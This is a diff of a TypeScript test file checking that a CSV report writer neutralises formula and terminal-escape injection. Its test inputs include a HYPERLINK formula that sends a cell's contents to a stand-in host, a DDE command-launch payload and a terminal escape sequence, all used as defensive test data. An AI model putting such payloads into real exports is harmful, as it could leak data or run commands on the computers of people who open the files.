@@ -5,12 +5,16 @@ import { join } from 'node:path';
 import { after, describe, it } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
+import { printable } from '../table.ts';
 import { type Outcome, openReportFile } from './report-file.ts';
 
 const folder = mkdtempSync(join(tmpdir(), 'waypost-report-'));
 after(() => rmSync(folder, { recursive: true }));
 
-const text = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom('a,b', '"', '""', ',accepted,', 'a\r\nb', 'é'));
+const text = fc.oneof(
+  fc.string({ unit: 'grapheme' }),
+  fc.constantFrom('a,b', '"', '""', ',accepted,', 'a\r\nb', 'é', '=1'),
+);
 const outcomes = fc.array(
   fc.record<Pick<Outcome, 'to' | 'status' | 'detail'>>({
     to: text,
@@ -20,7 +24,32 @@ const outcomes = fc.array(
   { minLength: 1, maxLength: 8 },
 );
 
+/** A cell as the report has it. */
+function written(cell: string): string {
+  const line = printable(cell.replace(/[\r\n]+/g, ' '));
+  return /^[=+\-@]/.test(line) && !/^\+?\d+$/.test(line) ? `'${line}` : line;
+}
+
 describe('a report file', () => {
+  it('has nothing of a stranger in it that a spreadsheet would calculate or a terminal would obey', async () => {
+    const path = join(folder, 'stranger.csv');
+    const report = await openReportFile(path, () => {});
+    const given = [
+      '=HYPERLINK("https://a.example/?"&A1,"Open")',
+      '+cmd|calc!A0',
+      '-1+1',
+      '@SUM(1)',
+      '＝1',
+      '\u001b]0;a\u0007',
+    ];
+    report.append([...given, '+447700900123', '0770'].map((to, place) => ({ row: place + 2, to, status: 'failed' })));
+    report.close();
+    const cells = parse(readFileSync(path), { from: 2 }).map(([, to]: string[]) => to);
+    assert.deepEqual(cells, [...given.slice(0, 5).map((to) => `'${to}`), ' ]0;a ', '+447700900123', '0770']);
+    // A run that goes on reads it again.
+    assert.equal((await openReportFile(path, () => {})).rows(), 8);
+  });
+
   it('that is cut at any byte goes on with the first row that is not whole', async () => {
     let runs = 0;
     await fc.assert(
@@ -38,11 +67,10 @@ describe('a report file', () => {
         second.close();
         assert.deepEqual(readFileSync(path), whole);
         assert.equal(second.rows(), rows.length);
-        const oneLine = (cell: string) => cell.replace(/[\r\n]+/g, ' ');
         const read: string[][] = parse(whole, { from: 2 });
         assert.deepEqual(
           read.map((cells) => [cells[1], cells[2], cells[6]]),
-          rows.map(({ to, status, detail = '' }) => [oneLine(to), status, oneLine(detail)]),
+          rows.map(({ to, status, detail = '' }) => [written(to), status, written(detail)]),
         );
       }),
     );
